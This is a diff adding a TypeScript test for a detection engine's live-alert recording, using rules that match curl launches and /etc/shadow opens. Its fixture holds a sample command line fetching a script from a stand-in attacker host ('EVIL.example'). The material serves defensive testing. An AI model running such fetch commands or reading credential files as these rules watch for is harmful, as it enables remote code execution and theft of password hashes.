@@ -1,0 +1,84 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { type CompiledRule, compileRule, parseRule, recordAlerts } from '../../src/detect/index.js';
+import { ingestBatch } from '../../src/ingest/index.js';
+import type { Store } from '../../src/store/index.js';
+import { DIALECTS, withStore } from '../helpers/store-dialects.js';
+import { proc, T0 } from '../ingest/host-fixture.js';
+import { huntFixture } from './detect-fixture.js';
+
+function compiled(store: Store, id: string, category: string, selection: string): CompiledRule {
+  const c = compileRule(
+    parseRule(
+      `title: rule ${id}\nid: ${id}\nauthor: Ann Author\nlevel: high\nlogsource: { product: linux, category: ${category} }\ndetection:\n  sel:\n${selection}\n  condition: sel\n`,
+      `${id}.yml`,
+    ),
+    store.caps,
+  );
+  assert.equal(c.status, 'ok');
+  return c as CompiledRule;
+}
+
+for (const dialect of DIALECTS) {
+  test(`[${dialect}] live alerts: each batch's new rows are matched once, in its transaction, with author and batch`, (t) =>
+    withStore(t, dialect, async (store) => {
+      const rules = [
+        compiled(store, 'curl', 'process_creation', '    Image|endswith: /curl'),
+        compiled(store, 'shadow', 'file_event', '    TargetFilename: /etc/shadow'),
+      ];
+      const { host, hashes } = await huntFixture(store, (trx, b) =>
+        recordAlerts(trx, rules, b).then(() => {}),
+      );
+      // A later batch that opens nothing the rules match adds no alert (the curl row is not re-matched).
+      const b3 = host.next([{ type: 'process_start', t: T0 + 20_000_000, proc: proc(300, 30) }]);
+      assert.equal(
+        (
+          await ingestBatch(store, b3.bytes, {
+            principal: host.hostId,
+            onApplied: (trx, b) => recordAlerts(trx, rules, b).then(() => {}),
+          })
+        ).status,
+        'accepted',
+      );
+      const rows = await store.db.selectFrom('alerts').selectAll().orderBy('id').execute();
+      assert.deepEqual(
+        rows.map((r) => [
+          r.rule,
+          r.summary,
+          r.severity,
+          r.author,
+          r.source_table,
+          Number(r.pid),
+          Number(r.batch_seq),
+          r.batch_hash,
+        ]),
+        [
+          ['curl', 'rule curl', 'high', 'Ann Author', 'processes', 101, 1, hashes[0]],
+          ['shadow', 'rule shadow', 'high', 'Ann Author', 'file_opens', 101, 2, hashes[1]],
+        ],
+      );
+      assert.equal(JSON.parse(rows[0].detail ?? '{}').cmdline, 'curl -s http://EVIL.example/x.sh');
+    }));
+
+  test(`[${dialect}] live alerts commit with their batch or not at all`, (t) =>
+    withStore(t, dialect, async (store) => {
+      const rules = [compiled(store, 'curl', 'process_creation', '    Image|endswith: /curl')];
+      await assert.rejects(
+        huntFixture(store, async (trx, b) => {
+          await recordAlerts(trx, rules, b);
+          throw new Error('server died between the alerts and the commit');
+        }),
+        /server died/,
+      );
+      const count = async (table: 'alerts' | 'batches' | 'processes') =>
+        Number(
+          (
+            await store.db
+              .selectFrom(table)
+              .select((eb) => eb.fn.countAll().as('n'))
+              .executeTakeFirst()
+          )?.n,
+        );
+      assert.deepEqual([await count('alerts'), await count('batches'), await count('processes')], [0, 0, 0]);
+    }));
+}
